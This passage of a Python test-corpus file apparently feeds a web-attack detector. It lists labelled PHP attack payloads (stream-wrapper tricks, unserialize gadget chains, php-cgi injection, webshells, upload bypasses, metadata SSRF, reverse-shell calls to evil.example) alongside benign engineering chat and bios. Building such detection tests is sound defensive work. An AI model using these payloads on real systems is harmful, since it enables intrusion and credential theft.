    "Closure::fromCallable('system')('id');",
]

# php-wrappers: include/file_get_contents/getimagesize sinks in Laravel, Symfony and WordPress APIs fed a
# template, view, avatar or export path (target: PHP stream wrappers; Laravel Ignition CVE-2021-3129)
IGNITION = "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution"
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=/var/www/html/.env",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.UTF-8.UTF-16LE/resource=config/database.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
    "data:text/plain,<?php phpinfo(); ?>",
    "phar:///tmp/uploads/avatar.jpg/x",
    "phar://./storage/app/public/exports/report.zip/shell.php",
    "expect://id",
    "zip:///var/www/storage/app/avatar.zip#shell.php",
    "glob:///var/www/html/*",
    # a "must not start with phar://" check passed through another wrapper
    "compress.zlib://phar:///tmp/uploads/x.phar",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/proc/self/environ",
    "php://filter/resource=http://evil.example/s.txt",
    # the start of a filter chain that builds PHP code out of php://temp (no file needed)
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
    _jb({"avatar": {"url": "phar:///var/www/storage/app/avatars/7.jpg"}}),
    _jb({"solution": IGNITION, "parameters": {"variableName": "x", "viewFile":
         "php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|"
         "convert.iconv.utf-16be.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}),
    _jb({"solution": IGNITION, "parameters": {"variableName": "x",
                                              "viewFile": "phar://../storage/logs/laravel.log/test.txt"}}),
    # Bref apps with the AWS SDK's S3 stream wrapper registered
    "s3://attacker-bucket/payload.phar",
    "ssh2.exec://deploy:deploy@10.0.0.5:22/id",
    "rar:///var/www/uploads/a.rar#shell.php",
    "data://text/plain,<?php system($_GET['c']);?>",
    "php://filter/read=convert.base64-encode/resource=wp-config.php",
    "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "glob://storage/app/*.sql",
]

# php-object-injection: PHPGGC-style gadget chains for the frameworks of API back ends, delivered in JSON fields,
# webhook bodies, cache entries, session stores and cookies (target: PHP unserialize() with Laravel, Monolog,
# Guzzle, Drupal 8, Yii2, Symfony Cache, Joomla 3 in the classpath)
LARAVEL = ('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:'
           '{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}')
MONOLOG = ('O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler"'
           ':7:{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:'
           '{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;'
           's:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}')
GUZZLE_JAR = ('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";'
              'a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";'
              'a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:28:"<?php system($_GET[\'c\']); ?>";}}}'
              's:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;'
              's:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:23:"/var/www/html/shell.php";'
              's:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}')
FNSTREAM = ('O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";'
            'a:1:{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}')
YII2 = ('O:23:"yii\\db\\BatchQueryResult":1:{s:36:"\x00yii\\db\\BatchQueryResult\x00_dataReader";'
        'O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:5:"close";a:2:{i:0;'
        'O:20:"yii\\rest\\IndexAction":2:{s:11:"checkAccess";s:6:"system";s:2:"id";s:2:"id";}i:1;s:3:"run";}}}}')
SYMFONY = ('O:47:"Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter":2:{'
           's:57:"\x00Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter\x00deferred";a:1:{i:0;'
           'O:33:"Symfony\\Component\\Cache\\CacheItem":2:{s:11:"\x00*\x00poolHash";i:1;'
           's:12:"\x00*\x00innerItem";s:2:"id";}}'
           's:53:"\x00Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter\x00pool";'
           'O:44:"Symfony\\Component\\Cache\\Adapter\\ProxyAdapter":2:{'
           's:54:"\x00Symfony\\Component\\Cache\\Adapter\\ProxyAdapter\x00poolHash";i:1;'
           's:58:"\x00Symfony\\Component\\Cache\\Adapter\\ProxyAdapter\x00setInnerItem";s:6:"system";}}')
SOAP = ('O:10:"SoapClient":3:{s:3:"uri";s:10:"urn:attack";s:8:"location";'
        's:65:"http://169.254.169.254/latest/meta-data/iam/security-credentials/";s:13:"_soap_version";i:1;}')
JUGGLE = 'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}'
AO_INNER = "x:i:0;a:1:{i:0;" + LARAVEL + "};m:a:0:{}"
PHP_OBJECT: list[Entry] = [
    LARAVEL,
    MONOLOG,
    GUZZLE_JAR,
    FNSTREAM,
    YII2,
    SYMFONY,
    # __call on a deserialized SoapClient sends a request to the location (SSRF to IMDS)
    SOAP,
    # loose == against true in an unserialized remember-me blob
    JUGGLE,
    ("remember_me=" + JUGGLE, "cookie", "rs-cookie"),
    # a PHP session file/Redis entry written through the "|" separator of the php session serializer
    'user|O:4:"User":1:{s:7:"isAdmin";b:1;}',
    # Joomla 3 session via User-Agent (CVE-2015-8562); the 4-byte character truncates the MySQL utf8 column
    '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers'
    '";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";'
    's:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;'
    's:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}'
    "\U0001d306",
    # a regex that wants O:<digits>: the plus sign still parses
    LARAVEL.replace("O:40:", "O:+40:", 1),
    # fast destruct: the duplicate key frees the object during unserialize()
    "a:2:{i:7;" + LARAVEL + "i:7;i:7;}",
    'C:11:"ArrayObject":' + str(len(AO_INNER)) + ":{" + AO_INNER + "}",
    # Drupal 8 REST HAL+JSON (SA-CORE-2019-003): the link field's options are unserialized
    _jb({"link": [{"value": "link", "options": FNSTREAM}],
         "_links": {"type": {"href": "http://localhost/rest/type/shortcut/default"}}}),
    # a webhook consumer that unserializes the payload of a Laravel-era producer
    _jb({"event": "invoice.paid", "payload": LARAVEL}),
    _gql("mutation($s:String!){importSettings(blob:$s){ok}}", {"s": MONOLOG}),
    # a cache-admin API writing straight into the Laravel Redis cache
    _jb({"key": "laravel_cache:feature_flags", "value": SYMFONY, "ttl": 3600}),
    # the same chain base64-encoded, as a queue job or a "state" parameter carries it
    base64.b64encode(LARAVEL.encode()).decode(),
    # a probe: does the endpoint unserialize at all
    'O:8:"stdClass":0:{}',
]

# php-config-directives: php-cgi argument injection (CVE-2012-1823, CVE-2024-4577), PHP-FPM PATH_INFO underflow
# (CVE-2019-11043) writing PHP_VALUE, .user.ini/.htaccess uploads, pearcmd with register_argc_argv, open_basedir
# escapes (target: php-cgi, php-fpm behind nginx, Apache mod_php, the official php Docker image)
PHP_CONFIG: list[Entry] = [
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "param-name", "rs-param-name"),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "param-name", "rs-param-name"),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+open_basedir%3dOff+-d+auto_prepend_file%3dphp://input",
     "param-name", "rs-param-name"),
    ("PHPRC=/dev/fd/0", "query", "rs-query"),
    ("+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=system($_GET[0])?>+/tmp/shell.php",
     "param-name", "rs-param-name"),
    ("PHP_VALUE%0Asession.auto_start=1;;;", "path", "rs-path"),
    ("PHP_VALUE%0Ashort_open_tag=1;;;;", "path", "rs-path"),
    ("PHP_VALUE%0Ahtml_errors=0;;;;", "path", "rs-path"),
    ("PHP_VALUE%0Ainclude_path=/tmp;;;;", "path", "rs-path"),
    ("PHP_VALUE%0Aauto_prepend_file=a;;;;", "path", "rs-path"),
    ("PHP_VALUE%0Aerror_log=/tmp/a;;;;", "path", "rs-path"),
    ("PHP_VALUE%0Alog_errors=1;;;;", "path", "rs-path"),
    # .htaccess contents uploaded to a bucket-backed or shared-hosting document root
    "AddType application/x-httpd-php .jpg",
    'php_value auto_prepend_file "/var/www/html/uploads/avatar.jpg"',
    "php_flag engine on\nAddHandler application/x-httpd-php .png",
    "SetHandler application/x-httpd-php",
    '<FilesMatch "\\.jpg$">SetHandler application/x-httpd-php</FilesMatch>',
    "AddHandler php7-script .txt",
    # .user.ini contents (php-fpm reads them per directory)
    "auto_prepend_file=/tmp/uploads/avatar.gif",
    'auto_append_file="data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"',
    "auto_prepend_file=/proc/self/environ",
    "log_errors=On\nerror_log=/var/www/html/uploads/x.php",
    # the classic chdir() walk out of open_basedir
    "mkdir('x');chdir('x');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');"
    "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');",
    # a hosting-panel API that writes a site's php.ini overrides
    _jb({"site": "shop", "phpIni": "allow_url_include=On\nauto_prepend_file=http://evil.example/s.txt"}),
]

# superglobals: code and parameter keys that read or overwrite $_GET/$_POST/$_REQUEST/$_SERVER/$_ENV/$_FILES/
# $_COOKIE/$_SESSION/$GLOBALS in eval'd fields, extract()/register_globals-style code and transform scripts
# (target: PHP interpreter)
PHP_SUPERGLOBALS: list[Entry] = [
    "echo $_ENV['AWS_SESSION_TOKEN'];",
    "var_dump($GLOBALS);",
    "print_r($_SERVER);",
    "assert($_REQUEST['a']);",
    "include $_FILES['f']['tmp_name'];",
    "eval($HTTP_RAW_POST_DATA);",
    "extract($_POST);$cmd($arg);",
    # inside an eval'd double-quoted string
    "{$_ENV['DB_PASSWORD']}",
    ("_SESSION[is_admin]=1", "query", "rs-query"),
    ("GLOBALS[_SERVER][REMOTE_ADDR]=127.0.0.1", "query", "rs-query"),
    ("_SERVER[HTTP_HOST]=evil.example", "form", "rs-raw-body"),
    ("_COOKIE[role]=admin", "form", "rs-raw-body"),
    "echo ${'_ENV'}['AWS_SECRET_ACCESS_KEY'];",
    "array_map('assert',$_POST);",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/s.php');",
    "$_POST[1]($_POST[2]);",
    "echo file_get_contents($_GET['url']);",
    "parse_str($_SERVER['QUERY_STRING']);eval($code);",
    "$_SESSION['user']['role']='admin';",
    _jb({"hook": "order.created", "transform": "return json_encode($_SERVER);"}),
    "file_put_contents($_GET['f'],$_POST['d']);",
    "system($_SERVER['HTTP_USER_AGENT']);",
    "header('X-Env: '.base64_encode(serialize($_ENV)));",
    "$_REQUEST['f']($_REQUEST['a']);",
]

# php-file-upload: upload and presign endpoints of avatar, import and attachment APIs that keep the client's file
# name (target: Apache/php-fpm handler mapping, IIS, object-storage keys under a PHP document root)
PHP_UPLOAD: list[Entry] = [
    ("shell.php", *UP),
    ("avatar.php.jpg", *UP),
    ("avatar.jpg.php", *UP),
    ("invoice.phtml", *UP),
    ("report.php5", *UP),
    ("report.php7", *UP),
    ("export.pht", *UP),
    ("backup.phar", *UP),
    ("cmd.pHp", *UP),
    ("cmd.php.", *UP),
    ("cmd.php%00.jpg", *UP),
    ("cmd.php\x00.png", *UP),
    ("cmd.php;.jpg", *UP),
    ("cmd.php::$DATA", *UP),
    (".user.ini", *UP),
    (".htaccess", *UP),
    ("source.phps", *UP),
    ("../../public/shell.php", *UP),
    ("shell.php%20", *UP),
    ("shell.php....", *UP),
    ("filename*=UTF-8''shell.php", *UP),
    ("legacy.php3", *UP),
    ("legacy.php4", *UP),
    ("theme.pHtml", *UP),
    ("logo.jpg.phtml", *UP),
    # presign requests: the key becomes the object name under a PHP-served prefix
    _jb({"fileName": "avatar.phtml", "contentType": "image/png", "size": 1024}),
    _jb({"key": "uploads/../public/s.php", "contentType": "image/jpeg"}),
    _gql("mutation($f:String!){createUploadUrl(filename:$f){url}}", {"f": "shell.php"}),
]

# php-high-risk-function-names: calls that read secrets, open sockets, escape disable_functions or hide the
# payload, in eval'd expression fields and webshell parameters (target: PHP interpreter)
PHP_RISKY: list[Entry] = [
    "phpinfo()",
    "show_source('index.php')",
    "highlight_file('/var/www/html/.env')",
    "file_get_contents('/etc/passwd')",
    "fsockopen('evil.example',4444)",
    # disable_functions bypasses
    "putenv('LD_PRELOAD=/tmp/evil.so');mail('a','b','c');",
    "FFI::cdef('int system(const char *command);')->system('id');",
    'imap_open("{x -oProxyCommand=echo\\tY3VybCBldmlsLmV4YW1wbGV8c2g=|base64\\t-d|sh}","","");',
    "print_r(scandir('/var/www'))",
    "readfile('/etc/shadow')",
    "unlink('.htaccess')",
    "copy('http://evil.example/s.txt','s.php')",
    "symlink('/','/var/www/html/root')",
    "chmod('s.php',0777)",
    "print_r(ini_get_all())",
    "stream_socket_client('tcp://evil.example:4444')",
    "eval(gzinflate(base64_decode('K64sLknN1VDPTFHXtAYA')));",
    "eval(str_rot13('flfgrz(\"vq\");'));",
    "print_r(posix_getpwuid(posix_geteuid()))",
    "dl('evil.so')",
    "mb_send_mail('a@example.org','s','b','','-OQueueDirectory=/tmp -X/var/www/html/x.php')",
    "error_log('<?php system($_GET[c]);?>',3,'/var/www/html/e.php')",
    # SSRF to the Redis cache next to the pod
    "$c=curl_init('gopher://127.0.0.1:6379/_FLUSHALL');curl_exec($c);",
    "set_time_limit(0);ignore_user_abort(1);",
    "foreach(new SplFileObject('/var/www/html/.env') as $l)echo $l;",
    "$h=fopen('/var/www/html/s.php','w');fwrite($h,$_POST['c']);",
    "print_r(glob('/home/*/.ssh/*'))",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJECTION),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTRIBUTE),
    ("xss", "javascript-uri", XSS_JS_URI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "template-literal-dom-sink", XSS_DOM),
    ("xss", "ie-filter-style-vectors", XSS_IE),
    ("xss", "encoded-entity-vectors", XSS_ENCODED),
    ("xss", "angular-vue-client-templates", XSS_CSTI),
    ("php", "php-open-tag", PHP_OPEN),
    ("php", "php-function-call", PHP_FUNC),
    ("php", "php-variable-functions", PHP_VARFN),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "superglobals", PHP_SUPERGLOBALS),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_RISKY),
]
# sub-families whose fixed `name=value` entries are query strings or paths as written (sent unquoted)
RAW_KV_SUBS = {"template-literal-dom-sink", "php-function-call", "php-object-injection", "php-config-directives",
               "superglobals"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    # what API clients name the fields these payloads travel in
    xss_names = ["displayName", "bio", "title", "description", "comment", "q", "website", "redirect_uri",
                 "callback", "html", "message", "theme"]
    php_names = ["template", "expression", "filter", "view", "file", "path", "data", "rule", "transform", "q",
                 "config", "state"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^%+<>?"
    raw_places = ("query", "form", "param-name", "cookie", "path", "rs-query", "rs-form", "rs-raw-body",
                  "rs-param-name", "rs-cookie", "rs-path")
    upload = "GIF89a;\n"
    unique = True

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.xss_names if category == "xss" else self.php_names
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """The bitwise-NOT payload is raw bytes held as latin-1 text."""
        return all(ord(ch) < 256 for ch in payload) and any(ord(ch) >= 0x80 for ch in payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """Every fixed entry of a raw sub-family that is not a JSON document is written as it goes on the wire
        (php-cgi argv query strings carry no `=` at all)."""
        return fixed and sub in self.raw_subs and not payload.startswith(("{", "["))

    def _segment(self, p: Put) -> str:
        """A raw path payload is an already-encoded PATH_INFO and goes as written."""
        return p.v.lstrip("/") if p.raw else super()._segment(p)

    def fits(self, place: str, v: str) -> bool:
        """Header-borne and path placements need a printable single-line ASCII value (the path: one segment, no
        query or fragment); raw bodies need `name=value`; XML no control characters but newline and tab."""
        if place == "path":
            return super().fits(place, v) and "/" not in v and "?" not in v and "#" not in v
        if place == "rs-raw-body":
            return "=" in v and "&" not in v and header_safe(v)
        if place in ("xml", "rs-xml"):
            return all(ch >= " " or ch in "\n\t" for ch in v)
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (backend and platform engineers in Slack, bios, searches for
# colleagues by team or service, links to API docs and dashboards, admin-panel notes, profiles, uploads of
# manifests and exports, the headers API clients and webhooks send)
CHAT = [
    # API design and GraphQL
    "the new `GET /v2/orders?filter[status]=paid&sort=-created_at` endpoint is live on staging, docs updated",
    "GraphQL schema change: `type User { id: ID! email: String! team: Team }`, please review before Friday",
    "the `fields` param supports sparse fieldsets now: `?fields=id,name,email`",
    "GraphQL persisted queries are on, arbitrary queries get `PERSISTED_QUERY_NOT_FOUND`",
    "returning 409 Conflict for duplicate emails and 400 for malformed JSON, see the error table in the guide",
    "rate limit headers are `X-RateLimit-Remaining` and `Retry-After`, documented in the API guide",
    "the OpenAPI spec is at /docs/openapi.yaml, regenerate the TS client with `npm run gen:api`",
    "FastAPI returns 422 when the body misses `email`, that's Pydantic validation, not the gateway",
    "Spring Boot actuator `/actuator/health` is only on the management port now",
    "Go service panics on a nil map in `handlers.go:142`, fix is in PR #2231",
    "the template literal `${baseUrl}/v1/users/${id}` in the SDK is missing the version prefix",
    "Sentry: `TypeError: Cannot read properties of undefined (reading 'map')` in the team list, on it",
    # ORMs and SQL
    "Prisma migration `20240611_add_webhook_secret` failed on prod, rolling forward with a fix",
    "we should stop using `$queryRawUnsafe` in the reports service, `$queryRaw` with a tagged template is "
    "parameterized",
    "SQLAlchemy `text()` is fine as long as you pass bind params, `:user_id` style",
    "Django `extra()` is on its way out, let's move the report to `annotate()`",
    "Sequelize `literal()` in the order clause caused the slow query, replaced it with a column",
    "TypeORM: `createQueryBuilder('user').where('user.id = :id', { id })` is the pattern, no string concat",
    "`SELECT status, count(*) FROM webhook_deliveries GROUP BY status;` says 98% delivered",
    # Kubernetes, cloud and CI
    "`kubectl rollout restart deploy/payments-api -n payments` fixed the stuck pods",
    "helm values: `image.tag: {{ .Values.global.tag }}` doesn't render in the subchart, any idea?",
    "the GitHub Actions step uses `${{ secrets.NPM_TOKEN }}`, rotated it after the offboarding",
    "ArgoCD sync failed: `ComparisonError: failed to load target state`, the repo creds expired",
    "terraform plan shows a replace on the RDS instance, do NOT apply until we check `engine_version`",
    "the ingress annotation `nginx.ingress.kubernetes.io/proxy-body-size: 20m` fixed the 413 on uploads",
    "k8s secret `api-db-credentials` rotated, pods pick it up on restart",
    "IMDSv2 is enforced on every node group now, hop limit 1",
    "Vault agent injects `/vault/secrets/db` into the pod, please don't read the password from env vars",
    "cron `0 2 * * *` runs the export, logs are in CloudWatch under /ecs/exports",
    "`docker compose up -d postgres redis` then `make migrate` and you're good",
    "the Lambda cold start is 1.2s with the Bref PHP layer and 300ms with Node",
    "S3 keys look like `exports/2024/06/users-42.csv`, the lifecycle rule deletes them after 30 days",
    "GCS signed URLs expire after 15 minutes, support keeps hitting that with big exports",
    "Backstage entity for payments-api has the wrong owner, fixing `catalog-info.yaml`",
    # webhooks, queues, search and caches
    "Stripe webhook payload has `data.object.metadata.order_id`, we key idempotency on `event.id`",
    "webhooks retry with exponential backoff, max 8 attempts, then the delivery goes to the DLQ",
    "SQS DLQ has 312 messages from the `invoice.created` consumer, looks like an upstream schema change",
    "Kafka consumer lag on `orders.v1` is back to zero",
    "HMAC header is `X-Signature-256: sha256=...`, we compare it in constant time",
    "jq for the delivery log: `jq -r '.[] | select(.status >= 500) | .id' deliveries.json`",
    "Elasticsearch: `{\"query\":{\"match\":{\"title\":\"onboarding\"}}}` returns 0 hits after the reindex",
    "Solr core reload done, faceting on `team_s` works again",
    "Redis hit rate dropped to 60% after we changed the key prefix to `v2:user:`",
    "`serialize()` vs JSON for the cache: JSON everywhere now except the legacy PHP session store",
    "the 502s were the ALB idle timeout, bumped it to 120s",
    "`curl -s https://api.internal/healthz | jq .status` says \"ok\" in all three regions",
    # front ends, renderers
    "the Next.js `<Script strategy=\"afterInteractive\">` change shaved 300ms off LCP",
    "reminder: never render API strings with dangerouslySetInnerHTML, use the sanitize helper",
    "our PDF renderer runs headless Chrome in a sidecar and only loads templates from the bundle",
    "Puppeteer `page.pdf({ format: 'A4' })` ignores margins unless you set `preferCSSPageSize`",
    "wkhtmltopdf is archived, we're moving invoices to Gotenberg next sprint",
    "the Vue 3 upgrade broke `v-html` in the changelog widget, we render the markdown server-side now",
    "Angular template `{{ user.name | titlecase }}` renders fine, the bug was in the pipe",
    "Nuxt `useFetch('/api/users')` caches by key, pass `key: 'users-' + page`",
    "why do our SVG icons lose their `viewBox` after svgo? config is in `svgo.config.js`",
    "CSP report-only shows inline script violations from a browser extension, ignoring those",
    "the `onerror` fallback on avatars shows initials now instead of a broken image",
    "the `alert()` calls in the old admin are replaced with the toast component",
    "someone put a `<script>` tag in their bio as a joke, it showed up as text, so escaping works",
    "style guide: `className` only, no inline `style` attributes in new components",
    "the iframe embed of the status page needs `frame-ancestors` updated in the CSP",
    "the `<base href=\"/\">` in the SPA index.html has to stay or the router breaks",
    "the meta refresh on the maintenance page is 30s, too aggressive?",
    "Mermaid diagrams in the docs portal render client-side, see the architecture page",
    "XSS fix for the comment preview is merged, DOMPurify with the default config",
    "`npm audit` flags the old `marked`, bumping to 12.x",
    # PHP estate
    "PHP 8.3 upgrade on the legacy billing box is Tuesday, composer.lock is updated",
    "php-fpm `pm.max_children` was 5 on the WordPress pod, raised it to 20",
    "`php artisan queue:restart` after deploy is part of the pipeline now",
    "the `.env.example` in the repo is outdated, DB_HOST is the RDS proxy endpoint now",
    "the `.htaccess` of the old marketing site is gone, it's all nginx now",
    "the object-injection finding from the pentest was in the legacy PHP session handler, patched in 4.2.1",
    "we only accept png/jpg/webp on the avatar endpoint, `.php` uploads get a 415",
    "the `phpinfo()` page on the old staging box is removed, it leaked env vars",
    "I turned the `expression` field of the rules engine into a dropdown, no more free text",
    # bios
    "Platform engineer. Kubernetes, Terraform, too many YAML files. On call for the edge gateway.",
    "Backend dev on the Payments API. Go, Postgres, webhooks. Ask me about idempotency keys.",
    "SRE, ex-Heroku. I like boring infrastructure and good dashboards.",
    "API designer: REST, GraphQL and the occasional gRPC. Wrote our pagination guide.",
    "Frontend + BFF: Next.js, Nuxt, and the PDF invoice renderer nobody else wants to own.",
    "Search team: Elasticsearch, Solr, relevance tuning, synonym files.",
    "Data platform: Kafka, Flink, and the CDC pipeline out of Postgres.",
    "AppSec engineer. Threat models, code review, XSS and SSRF triage.",
    "PHP veteran, now keeping the Laravel billing service alive until the rewrite",
    "DevEx: CI pipelines, GitHub Actions runners, build caches.",
]

SEARCHES = [
    "payments-api", "platform team", "sre", "graphql", "webhooks", "k8s", "kubernetes", "terraform",
    "api gateway", "search team", "elasticsearch", "solr", "redis", "kafka", "php", "laravel", "next.js", "nuxt",
    "vue", "angular", "svg", "pdf renderer", "script", "style guide", "template", "expression", "filter", "sort",
    "fields", "on-call", "appsec", "xss", "s3", "lambda", "serverless", "prisma", "typeorm", "fastapi",
    "spring boot", "go team",
]

URLS = [
    "https://graphql.org/learn/queries/",
    "https://www.prisma.io/docs/orm/prisma-client/using-raw-sql/raw-queries",
    "https://docs.sqlalchemy.org/en/20/core/sqlelement.html#sqlalchemy.sql.expression.text",
    "https://docs.djangoproject.com/en/5.0/ref/models/querysets/#extra",
    "https://sequelize.org/docs/v6/core-concepts/raw-queries/",
    "https://typeorm.io/select-query-builder",
    "https://fastapi.tiangolo.com/tutorial/body/",
    "https://docs.spring.io/spring-boot/docs/current/reference/html/actuator.html",
    "https://kubernetes.io/docs/concepts/configuration/secret/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://nextjs.org/docs/app/api-reference/components/script",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://angular.io/guide/security",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://bref.sh/docs/",
    "https://pptr.dev/api/puppeteer.page.pdf",
    "https://grafana.internal.example.com/d/api-latency/api-latency?orgId=1&var-service=payments-api",
    "https://www.elastic.co/guide/en/elasticsearch/reference/current/query-dsl-match-query.html",
]

PROSE = [
    "payments api owners",
    "webhook delivery failures June",
    "graphql schema reviewers",
    "platform team members",
    "sre on-call rota",
    "kubernetes migration working group",
    "php 8.3 upgrade volunteers",
    "svg icon set maintainers",
    "pdf invoice renderer owners",
    "elasticsearch reindex helpers",
    "people with prod kubectl access",
    "terraform state owners",
    "users created by the SCIM sync",
    "service accounts for CI",
    "webhook signing secret rotation contacts",
    "security book club",
    "style guide committee",
    "template library maintainers",
    "Next.js migration squad",
    "Vue to React rewrite team",
    "Angular legacy app owners",
    "redis cache owners",
    "kafka platform",
    "search relevance team",
    "API gateway team",
    "serverless guild",
    "Lambda cost review attendees",
    "S3 bucket owners for exports",
    "ORM migration reviewers",
    "Prisma early adopters",
    "FastAPI services owners",
    "Spring Boot upgrade to 3.3",
    "Go services on-call",
    "DLQ triage rotation",
    "status page admins",
    "AppSec champions",
    "XSS training attendees",
    "Laravel billing maintainers",
    "WordPress marketing site admins",
    "contractors with expired access",
]

PROFILES = [
    ("Lambda Logistics", "Harbour Rd 12, Rotterdam"),
    ("Script & Quill Bookbinders", "Canongate 88, Edinburgh"),
    ("Alert Security Services", "Industrial Park 4, Leeds"),
    ("Vue Point Cafe", "Rue de la Gare 3, Lyon"),
    ("Angular Momentum Tutoring", "College St 19, Toronto"),
    ("Prisma Optics", "Via Roma 45, Turin"),
    ("Kafka Bookshop", "Karlova 7, Prague"),
    ("Solr Energy GmbH", "Sonnenallee 120, Berlin"),
    ("Redis Ortega", "Calle Mayor 23, Madrid"),
    ("Nuxt Marketing", "Main St 501, Austin"),
    ("Helm & Anchor Marine", "Quay St 2, Cork"),
    ("Cloud Nine Bakery", "Baker St 221, London"),
    ("Hook & Line Fishing", "Pier 39, San Francisco"),
    ("Pod Coffee Roasters", "Brunswick St 300, Melbourne"),
    ("Ingress Physio", "Station Rd 5, Reading"),
    ("Style Lab Salon", "Rua Oscar Freire 900, Sao Paulo"),
    ("Expression Dance Studio", "Nørrebrogade 44, Copenhagen"),
    ("Frame & Canvas Gallery", "Prinsengracht 263, Amsterdam"),
    ("Template Print Shop", "Gran Via 8, Bilbao"),
    ("Serverless Sam", "Pine St 1200, Seattle"),
]

UPLOAD_NAMES = [
    "openapi.yaml", "schema.graphql", "values-prod.yaml", "deployment.yaml", "catalog-info.yaml",
    "webhook-deliveries-2024-06.json", "prisma-migration-20240611.sql", "invoice-1042.pdf", "logo.svg",
    "icons-sprite.svg", "php-upgrade-plan.docx", "composer.lock", "docker-compose.yml", "terraform-plan.txt",
    "grafana-dashboard-api-latency.json", "postman_collection.json", "k8s-manifests.tar.gz",
    "users-export-2024-06.csv", "style-guide.pdf", "nginx.conf", "Dockerfile", "laravel-billing-runbook.md",
    "es-mapping.json", "solr-schema.xml", "helm-chart-payments-0.4.2.tgz",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "kube-probe/1.29"),
    ("User-Agent", "GitHub-Hookshot/8e03811"),
    ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    ("User-Agent", "axios/1.7.2"),
